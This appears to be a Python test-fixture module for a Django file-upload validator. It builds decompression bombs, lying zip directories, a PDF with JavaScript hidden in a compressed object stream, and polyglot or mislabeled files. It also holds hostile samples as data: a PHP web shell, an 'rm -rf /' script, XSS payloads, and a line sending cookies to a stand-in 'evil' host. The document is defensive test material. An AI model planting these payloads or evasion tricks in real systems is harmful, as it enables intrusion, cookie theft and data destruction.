"""Files as people and attackers make them, built byte by byte so that the tests need nothing else."""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from pathlib import Path

from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import RectangleObject

SAMPLE = (Path(settings.BASE_DIR) / "fixtures" / "demo" / "sample.pdf").read_bytes()
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def upload(name: str, content: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, "application/octet-stream")


# --- pictures ---------------------------------------------------------------------


def picture(kind: str = "JPEG", size: tuple[int, int] = (60, 40), **options: object) -> bytes:
    """A picture whose left half is red and right half blue."""
    image = Image.new("RGB", size, "red")
    image.paste("blue", (size[0] // 2, 0, *size))
    made = io.BytesIO()
    image.save(made, kind, **options)
    return made.getvalue()


def tell_tale_jpeg() -> bytes:
    """A photograph that says where and with what it was taken, lying on its side, with a comment."""
    exif = Image.Exif()
    exif[0x0112] = 6  # turned by 90 degrees
    exif[0x010F] = "SecretCamera"
    exif[0x9286] = "serial-4711"
    gps = exif.get_ifd(0x8825)
    gps[1], gps[2] = "N", (35.0, 41.0, 15.0)
    gps[29] = "2026:11:25"
    return picture(exif=exif.tobytes(), comment=b"hidden-comment", icc_profile=b"fake-profile" * 20)


def flood_png(side: int = 50_000) -> bytes:
    """A PNG of little more than a megabyte whose header promises 2.5 thousand million pixels."""
    header = struct.pack(">2I5B", side, side, 8, 0, 0, 0, 0)
    data = zlib.compress(b"\x00" * 1024, 0) * 1024

    def chunk(name: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))

    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


# --- office -----------------------------------------------------------------------

TYPES = """<?xml version="1.0" encoding="UTF-8"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
<Override PartName="/{part}" ContentType="application/vnd.openxmlformats-officedocument.{kind}.main+xml"/>
{more}</Types>"""
RELATIONS = """<?xml version="1.0" encoding="UTF-8"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{rows}</Relationships>"""
KINDS = {
    "docx": ("word/document.xml", "wordprocessingml.document"),
    "xlsx": ("xl/workbook.xml", "spreadsheetml.sheet"),
}
TEXT = '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">正文</w:document>'


def office(
    kind: str = "docx",
    *,
    types: str = "",
    relations: str = "",
    body: str = TEXT,
    parts: dict[str, bytes] | None = None,
) -> bytes:
    """A Word or Excel file; `parts` are laid beside what every one has."""
    part, family = KINDS[kind]
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", TYPES.format(part=part, kind=family, more=types))
        archive.writestr("_rels/.rels", RELATIONS.format(rows=""))
        archive.writestr(part, body)
        folder = part.partition("/")[0]
        archive.writestr(f"{folder}/_rels/{part.rpartition('/')[2]}.rels", RELATIONS.format(rows=relations))
        for name, content in (parts or {}).items():
            archive.writestr(name, content)
    return buffer.getvalue()


def relation(kind: str, target: str) -> str:
    base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    return f'<Relationship Id="r9" Type="{base}/{kind}" Target="{target}" TargetMode="External"/>'


def zipped(parts: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def bomb(megabytes: int = 285) -> bytes:
    """A workbook of well under a megabyte whose sheet unpacks to so many."""
    buffer = io.BytesIO()
    part, family = KINDS["xlsx"]
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", TYPES.format(part=part, kind=family, more=""))
        archive.writestr(part, "<workbook/>")
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=False) as sheet:
            for _ in range(megabytes):
                sheet.write(b"<c/>" * (1024 * 1024 // 4))
    return buffer.getvalue()


def crowd(entries: int = 100_000) -> bytes:
    """An archive of so many empty entries."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        for number in range(entries):
            archive.writestr(zipfile.ZipInfo(f"x/{number}"), b"")
    return buffer.getvalue()


def lying(megabytes: int = 200) -> bytes:
    """A document whose directory says that a part of so many megabytes has ten bytes."""
    content = bytearray(office(parts={"word/big.xml": b"\x00" * (megabytes * 1024 * 1024)}))
    real = struct.pack("<L", megabytes * 1024 * 1024)
    assert content.count(real) == 2
    return bytes(content).replace(real, struct.pack("<L", 10))


# --- pdf --------------------------------------------------------------------------


def pdf(*objects: str, root: str = "", tail: bytes = b"", head: bytes = b"", page: str = "") -> bytes:
    """A PDF of one empty page; `objects` become numbers 10, 11 …; `root` stands in the catalogue."""
    bodies = {
        1: f"<</Type/Catalog/Pages 2 0 R {root}>>",
        2: "<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: f"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]{page}>>",
        **{10 + place: body for place, body in enumerate(objects)},
    }
    made = bytearray(b"%PDF-1.7\n" + head)
    places = {}
    for number, body in bodies.items():
        places[number] = len(made)
        made += f"{number} 0 obj\n{body}\nendobj\n".encode("latin-1")
    start = len(made)
    made += b"xref\n0 1\n0000000000 65535 f \n"
    for number, place in places.items():
        made += f"{number} 1\n{place:010d} 00000 n \n".encode()
    made += f"trailer\n<</Size 20/Root 1 0 R>>\nstartxref\n{start}\n%%EOF\n".encode()
    return bytes(made) + tail


def hidden_script_pdf() -> bytes:
    """A script inside a compressed stream of objects: no byte of the file spells its name."""
    body = b"1 0 2 60 " + b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(x)>>>>".ljust(60)
    first = b"1 0 2 64 5 120 "
    catalog = b"<</Type/Catalog/Pages 2 0 R/OpenAction 5 0 R>>".ljust(64)
    pages = b"<</Type/Pages/Kids[3 0 R]/Count 1>>".ljust(56)
    action = b"<</S/JavaScript/JS(app.alert(1))>>"
    body = first + catalog + pages + action
    packed = zlib.compress(body)
    made = bytearray(b"%PDF-1.7\n")
    places = {3: len(made)}
    made += b"3 0 obj\n<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>\nendobj\n"
    places[4] = len(made)
    made += b"4 0 obj\n<</Type/ObjStm/N 3/First %d/Filter/FlateDecode/Length %d>>\nstream\n" % (
        len(first),
        len(packed),
    )
    made += packed + b"\nendstream\nendobj\n"
    places[6] = len(made)
    rows = [
        (0, 0, 65535),
        (2, 4, 0),
        (2, 4, 1),
        (1, places[3], 0),
        (1, places[4], 0),
        (2, 4, 2),
        (1, places[6], 0),
    ]
    table = zlib.compress(b"".join(struct.pack(">BLH", *row) for row in rows))
    made += (
        b"6 0 obj\n<</Type/XRef/Size 7/W[1 4 2]/Root 1 0 R/Filter/FlateDecode/Length %d>>\nstream\n"
        % len(table)
    )
    made += table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % places[6]
    return bytes(made)


# --- wrong content ----------------------------------------------------------------

HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
OTHERS: dict[str, bytes] = {
    "html": HTML,
    "html after blanks": b"\xef\xbb\xbf \r\n<html><script>alert(1)</script></html>",
    "svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "exe": b"MZ\x90\x00" + b"\x00" * 60 + b"PE\x00\x00" + b"\x00" * 400,
    "elf": b"\x7fELF\x02\x01\x01" + b"\x00" * 200,
    "js": b"fetch('//evil/'+document.cookie)",
    "php": b"<?php system($_GET['c']); ?>",
    "shell": b"#!/bin/sh\nrm -rf /\n",
    "gif": b"GIF89a\x01\x00\x01\x00\x00\x00\x00;",
    "old word": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600,
    "rar": b"Rar!\x1a\x07\x00" + b"\x00" * 60,
    "noise": random.Random(7).randbytes(3000),
    "text": "只是一段文字".encode(),
}


def disguises() -> dict[str, tuple[str, bytes]]:
    """The corpus of F1: every kind of content under every name, right signatures on wrong content, and
    files that are two things at once."""
    found: dict[str, tuple[str, bytes]] = {}
    for word, content in OTHERS.items():
        for kind in ("pdf", "jpg", "png", "docx", "xlsx"):
            found[f"{word} as {kind}"] = (f"材料.{kind}", content)
    real = {"pdf": SAMPLE, "jpg": picture(), "png": picture("PNG"), "docx": office(), "xlsx": office("xlsx")}
    for kind, content in real.items():
        for other in sorted(real.keys() - {kind}):
            found[f"{kind} as {other}"] = (f"材料.{other}", content)
    archive = zipped({"run.exe": b"MZ"})
    found |= {
        "zip as docx": ("材料.docx", archive),
        "pdf then zip": ("材料.pdf", SAMPLE + archive),
        "pdf in a zip's comment": ("材料.pdf", _with_comment(SAMPLE, archive)),
        "pdf with a page in front": ("材料.pdf", pdf(head=b"%<script>alert(1)</script>\n")),
        "pdf behind a page": ("材料.pdf", HTML + SAMPLE),
        "pdf then html": ("材料.pdf", SAMPLE + HTML),
        "jpg then zip": ("材料.jpg", picture() + archive),
        "jpg then pdf": ("材料.jpg", picture() + SAMPLE),
        "jpg with a page in its comment": ("材料.jpg", picture(comment=HTML)),
        "png then html": ("材料.png", picture("PNG") + HTML),
        "png then zip": ("材料.png", picture("PNG") + archive),
        "exe then docx": ("材料.docx", OTHERS["exe"] + office()),
        "docx then exe": ("材料.docx", office() + OTHERS["exe"]),
        "two archives in one": ("材料.docx", office() + office("xlsx")),
        "docx with a program": ("材料.docx", office(parts={"word/media/image1.png": b"MZ\x90\x00"})),
        "docx with a script beside": ("材料.docx", office(parts={"word/run.js": b"1"})),
        "docx with a page beside": ("材料.docx", office(parts={"index.html": HTML})),
        "only a pdf header": ("材料.pdf", b"%PDF-1.7\n" + HTML),
        "only a png header": ("材料.png", b"\x89PNG\r\n\x1a\n" + HTML),
        "only a jpg header": ("材料.jpg", b"\xff\xd8\xff\xe0" + HTML),
        "only a zip header": ("材料.xlsx", b"PK\x03\x04broken"),
    }
    return found


def _with_comment(front: bytes, archive: bytes) -> bytes:
    """An archive behind a PDF whose comment ends as a PDF ends."""
    comment = b"\n%%EOF\n"
    return front + archive[:-2] + struct.pack("<H", len(comment)) + comment


def pages(count: int) -> bytes:
    """A PDF of so many pages: upright, lying, and of an odd size and place."""
    writer = PdfWriter()
    for number in range(count):
        page = writer.add_blank_page(*((595, 842), (842, 595), (1200, 1700))[number % 3])
        page.rotation = (0, 90, 0)[number % 3]
        if number % 3 == 2:
            page.mediabox = RectangleObject((100, 200, 1300, 1900))
    made = io.BytesIO()
    writer.write(made)
    return made.getvalue()
